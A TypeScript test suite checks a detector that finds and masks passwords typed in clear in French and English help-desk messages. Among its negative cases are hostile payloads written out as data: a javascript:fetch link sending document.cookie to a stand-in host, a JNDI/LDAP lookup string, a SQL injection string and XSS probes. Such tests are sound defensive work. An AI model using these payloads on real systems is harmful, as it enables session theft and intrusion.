import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { cut, read } from '../../understanding/reading';
import { type Situation, situations } from '../../understanding/understanding';

const hasTypedPassword = (text: string, situation: Situation): boolean =>
  read(text, situation).password !== undefined;

describe('a password typed in clear', () => {
  it.each([
    'mon mot de passe est Marguerite69!',
    'mon mdp c’est licorne',
    'mn mdp c doudou',
    'MON MDP C’EST FOOTBALL98',
    'mdp : azerty',
    'mot de passe = tournesol',
    'mdp: toto',
    'j’ai essayé Toto2023!',
    'jai tape soleil123 et ca refuse',
    'Azerty123!',
    'toto1234',
    '[Perdu-Depuis-2019](https://x.example)',
    '"Mirabelle!21"',
    '«Bourgogne-1987$»',
    'Xk9#mPq2vL',
    'Xk333!',
    'aaaa111!',
    'AAA!!!bbb111',
    'my password is sunshine',
    'please set it to Blue$Whale2020',
    'I tried Winter2021! but it fails',
    'password: hunter2',
    'mot de passe : le chat est sur le toit',
    'mon mot de passe est 10E9501234ABC',
    'mon ancien mot de passe était Framboise_12',
    'mot de passe de ma boîte : Chocolat78',
    'est-ce que Mistral2023? convient ?',
    'mon identifiant est jmartin et mon mot de passe Chocolat!78',
    'mo\u0302t de passe : Cafe\u0301Noir9',
    'mon mot de passe est marguerite mais ça ne passe pas',
    'my password is sunshine and it keeps failing me',
    'mon mot de passe est tournesol, je ne comprends pas pourquoi il est refusé',
    'mdp : cheval bleu correct',
    'mon mot de passe est cheval bleu correct',
    'voici le mot de passe que je veux : montagne bleue 7',
    'mdp licorne refusé',
    'mdp Lyon6900! refuse',
    'mot de passe tournesol ne marche pas',
    'C’est bien le bon code pourtant : soleil',
    '<p>mon mdp est <b>licorne</b></p>',
    'erreur avec Toto2023!',
    'j’ai mis pistache comme mdp',
    'identifiant jdupont mot de passe licorne',
    'ancien mot de passe licorne',
    'mot de passe tapé : licorne',
    'my password, sunshine, does not work',
    'le mot de passe est soleil vert océan et ça ne marche pas',
    'mon mdp c licorne pk sa marche pa',
  ])('is seen everywhere: %s', text => {
    for (const situation of situations)
      expect([situation, hasTypedPassword(text, situation)]).toEqual([situation, true]);
  });

  it.each([
    'j’ai oublié mon mot de passe',
    'mon mot de passe est refusé',
    'mon mot de passe est trop court',
    'mon mot de passe est expiré',
    'mot de passe : oublié',
    'quel est mon mot de passe ?',
    'c’est quoi le mot de passe',
    'mon mot de passe c’est quoi déjà',
    'ce n’est pas le mot de passe, c’est l’identifiant',
    'le mot de passe que je veux changer, c’est celui du webmail',
    'g besoin du mdp de ma collegue',
    'jean.martin1@ac-lyon.fr',
    'https://webmail.ac-lyon.fr/',
    '10E9501234ABC',
    'mon numen est 10E9501234ABC',
    'NUMEN=10E9501234ABC',
    'IMAP 993',
    'POP3:995',
    '12/03/1975',
    '04 72 80 60 60',
    'Windows11',
    'prof de CM2',
    '1er février 1980',
    '<script>alert(1)</script>',
    '[clic](javascript:alert(1))',
    '[clic](javascript:fetch("//x.example/?"+document.cookie))',
    'regardez : [cliquez ici](javascript:alert(1)) merci',
    '[clic](https://x.example/a?b=1)',
    '![image](data:text/html;base64,PHNjcmlwdD4x)',
    'javascript:alert(1)',
    '${jndi:ldap://x.example/a}',
    "' OR '1'='1",
    'my password is expired',
    'my password is about to expire in two days',
    'mot de passe refusé',
    'mot de passe messagerie refusé',
    'mdp actuel refusé',
    'mot de passe systématiquement refusé',
    'erreur 0x800CCC0E dans outlook',
    '0x800CCC0E',
    'code erreur AUTH-401',
    'code erreur : AUTH-401',
    'erreur E-4012X',
    'le bug ERR_CERT_DATE_INVALID s’affiche',
    'Windows11Pro',
    'NET::ERR_CERT_AUTHORITY_INVALID',
    'DNS_PROBE_FINISHED_NXDOMAIN',
    'AADSTS50126',
    'port 993/TLS',
    'IMAP4rev1',
    'SamsungGalaxyS21',
    'nouveau mot de passe académique',
    'mon mot de passe est toujours refusé alors que je viens de le changer',
    'j’ai mis Windows10Home et Office2021',
    'iPhone15ProMax',
    'la boîte de l’école ce.0690000x',
    'la boîte fonctionnelle int.0690123a',
    'école 0420056Z',
    'OTP n°123456',
    'ma clé OTP n°3-458921',
    'lang=en',
    '<div style="color:#1F4E79;font-size:14px">mot de passe oublié</div>',
    '<p class="x">bonjour</p><br/>',
    'my password is not accepted',
    'ppppp^^^ùùùmmmm',
    '====888===µµµ',
    ';;;;;;;lkkkkkkkkkkkkkkkkk',
    '',
    '😀😀😀',
  ])('is not seen where there is none: %s', text => {
    expect(hasTypedPassword(text, 'start')).toBe(false);
  });

  it('is seen at the end of a long text', () => {
    expect(
      hasTypedPassword(`${'bonjour je vous explique '.repeat(300)} mon mdp est Pistache*56`, 'start'),
    ).toBe(true);
  });

  it('is seen whatever it is, when it has the four kinds of characters that the rules ask for', () => {
    const some = (letters: string) =>
      fc.array(fc.constantFrom(...letters), { minLength: 3, maxLength: 4 }).map(list => list.join(''));
    const password = fc
      .tuple(
        some('ABCDEFGHKLMNPRST'),
        some('abcdefghkmnprst'),
        some('23456789'),
        fc.constantFrom('!a', '$b', '#c', '*d', '&e', '@f', '+g'),
      )
      .map(parts => parts.join(''));
    fc.assert(
      fc.property(
        password,
        fc.constantFrom(...situations),
        fc.constantFrom('', 'voici ', 'mon mdp ', 'je prends ', 'essai avec '),
        (secret, situation, lead) => {
          expect(hasTypedPassword(`${lead}${secret}`, situation)).toBe(true);
        },
      ),
    );
  });
});

it.each([
  ['mon mdp est marguerite mais ça ne passe pas', 'mon mdp est ••• mais ça ne passe pas'],
  ['mot de passe : le chat est sur le toit', 'mot de passe : •••'],
  ['mdp : « cheval bleu, correct » merci', 'mdp : « ••• » merci'],
  ['mdp licorne refusé', 'mdp ••• refusé'],
  ['mdp: tulipe, password: rose12', 'mdp: •••, password: •••'],
  ['mdp : abc,def;ghi!12 et voilà', 'mdp : ••• et voilà'],
  ['j’ai mis LICORNE2024! ET CA REFUSE', 'j’ai mis ••• ET CA REFUSE'],
])('is cut out of « %s »', (text, kept) => {
  expect(cut(text, read(text, 'start'))).toBe(kept);
});
